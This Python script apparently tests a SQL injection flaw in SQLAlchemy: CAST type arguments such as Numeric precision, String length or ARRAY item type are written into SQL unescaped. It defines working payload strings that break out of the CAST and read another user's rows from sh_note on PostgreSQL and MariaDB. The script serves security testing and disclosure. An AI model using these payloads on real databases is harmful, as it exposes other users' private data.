"""CAST target arguments that are neither str nor int (any object with __str__), or nested
inside another type (ARRAY's item type), are written into the SQL as is: SQL injected into a
user session's statement, reading hidden rows unfiltered."""
from _harness import run
from sqlalchemy import Integer, Numeric, String, cast, literal, select
from sqlalchemy.dialects.postgresql import ARRAY

from tests.security._shapes import Note, open_world, outcome


class Sql:
    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


# NUMERIC(<precision>, 0): close the CAST, add a subquery over sh_note (unfiltered)
INJECT = "10, 0)) || (SELECT max(body) FROM sh_note WHERE owner = 'bob') || CAST(0 AS NUMERIC(10"


# inside ARRAY's item type (a str precision: the check never looks inside ARRAY)
ARRAY_INJECT = ("10, 0)[]) || (SELECT array_agg(length(body)) FROM sh_note WHERE owner = 'bob')"
                "::numeric[] || CAST(NULL AS NUMERIC(10")
MARIADB_INJECT = "10, 0)) + (SELECT count(*) FROM sh_note WHERE owner = 'bob') - CAST(0 AS DECIMAL(10"


async def main(kind, url):
    async with open_world(url, kind) as world:
        probes = {
            "Numeric(precision=object)": select(cast(cast(Note.id, Numeric(precision=Sql(INJECT), scale=0)), String)),
            "String(length=object)": select(cast(cast(Note.id, String(length=Sql("10)) || (SELECT max(body) FROM sh_note WHERE owner = 'bob') || CAST(1 AS CHAR(1"))), String)),
        }
        if kind == "mariadb":
            probes["Numeric(precision=object) MariaDB"] = select(
                cast(cast(Note.id, Numeric(precision=Sql(MARIADB_INJECT), scale=0)), String))
        if kind == "postgresql":
            probes["ARRAY(Numeric(precision=str))"] = select(
                cast(cast(literal("{1}"), ARRAY(Numeric(precision=ARRAY_INJECT, scale=0))), String)  # type: ignore[arg-type]
            )
        for name, stmt in probes.items():
            async with world.session() as s:
                try:
                    print(name, "->", await outcome(s, stmt))
                except Exception as e:
                    print(name, "-> EXC", type(e).__name__, str(e)[:300])


run(main)
